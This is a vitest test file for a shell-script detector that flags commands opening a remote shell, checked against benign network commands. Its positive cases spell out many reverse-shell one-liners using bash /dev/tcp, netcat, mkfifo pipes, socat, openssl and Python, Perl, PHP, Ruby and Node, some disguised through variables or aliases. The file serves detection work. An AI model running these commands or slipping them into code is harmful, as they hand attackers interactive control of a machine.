import { describe, expect, it } from 'vitest';
import { readShell } from '../formats/shell/read-shell.ts';
import { resolveScript } from './resolve-script.ts';
import { connectionOf } from './shell-connections.ts';

/** How the first command that connects a shell does it. */
function connectionIn(text: string): string | undefined {
  for (const script of [readShell(text), resolveScript(text)]) {
    for (const command of script?.commands ?? []) {
      const pipeline = script?.commands.filter((other) => other.pipeline === command.pipeline) ?? [];
      const found = connectionOf(command, pipeline);
      if (found !== undefined) return found;
    }
  }
  return undefined;
}

// 192.0.2.0/24 is an example: nobody has it.
describe('connectionOf', () => {
  it.each([
    'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'sh -i 5<> /dev/tcp/192.0.2.1/1 0<&5 1>&5',
    'exec 5<>/dev/tcp/192.0.2.1/1; cat <&5 | sh',
    '0<&196;exec 196<>/dev/udp/192.0.2.1/1; sh <&196 >&196',
    'nc -e /bin/sh 192.0.2.1 4444',
    'nc -c bash 192.0.2.1 4444',
    'ncat --sh-exec="sh" 192.0.2.1 4444',
    'busybox nc 192.0.2.1 4444 -e sh',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f',
    'mkfifo f; nc 192.0.2.1 4444 < f | sh > f 2>&1',
    'mkfifo f; telnet 192.0.2.1 4444 < f | bash > f',
    'mkfifo f; sh -i < f 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > f',
    "socat exec:'bash -li',pty,stderr tcp:192.0.2.1:4444",
    'socat TCP:192.0.2.1:1 EXEC:sh',
    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    `python3 <<'EOF'\nimport socket, subprocess\ns = socket.socket()\ns.connect(("192.0.2.1", 1))\nsubprocess.call(["sh"], stdin=s)\nEOF`,
    `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");'`,
    `php -r '$s=fsockopen("192.0.2.1",1);exec("sh <&3 >&3 2>&3");'`,
    `ruby -rsocket -e 's=TCPSocket.new("192.0.2.1",1);exec "sh",:in=>s'`,
    `node -e 'const s=require("net").connect(1,"192.0.2.1");require("child_process").spawn("sh").stdout.pipe(s)'`,
    'B=bash; $B -i >& /dev/tcp/192.0.2.1/4444 0>&1',
    'N=nc; $N -e /bin/sh 192.0.2.1 4444',
    'alias n=nc\nn 192.0.2.1 4444 -e /bin/sh',
  ])('%s', (text) => {
    expect(connectionIn(text)).toBeDefined();
  });

  it.each([
    'timeout 1 bash -c "echo > /dev/null"',
    'echo > /dev/tcp/localhost/80',
    'nc -z localhost 80',
    'sh x.sh | nc -z localhost 80',
    'echo stats | nc localhost 11211',
    'socat TCP-LISTEN:80,fork TCP:db:80',
    'cat x | openssl s_client -connect example.org:443',
    `python3 -c 'import socket; socket.socket().connect(("localhost", 80))'`,
    `node -e 'require("net").connect(80, "localhost").on("error", () => process.exit(1))'`,
    'echo "bash -i >& /dev/tcp/192.0.2.1/4444"',
    'curl https://example.org/dev/tcp/',
  ])('nothing of %s', (text) => {
    expect(connectionIn(text)).toBeUndefined();
  });
});
